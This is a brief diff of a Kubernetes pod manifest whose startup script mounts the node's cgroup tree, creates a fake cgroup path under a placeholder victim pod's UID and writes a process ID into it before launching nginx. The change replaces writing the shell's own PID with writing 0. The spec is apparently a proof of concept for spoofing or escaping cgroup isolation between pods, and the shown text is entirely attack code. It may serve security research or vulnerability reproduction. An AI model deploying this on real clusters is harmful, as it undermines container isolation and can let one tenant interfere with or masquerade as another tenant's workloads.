@@ -58,7 +58,7 @@ spec:
       for root in /node-cgroup/unified /node-cgroup; do
         [ -e $root/cgroup.procs ] || continue
         fake=$root$mine/kubepods/podVICTIM_UID/inner
-        /bin/busybox mkdir -p $fake && echo $$ >$fake/cgroup.procs && break
+        /bin/busybox mkdir -p $fake && echo 0 >$fake/cgroup.procs && break
       done
       exec nginx
     readinessProbe: {httpGet: {path: /, port: 80}, periodSeconds: 1}
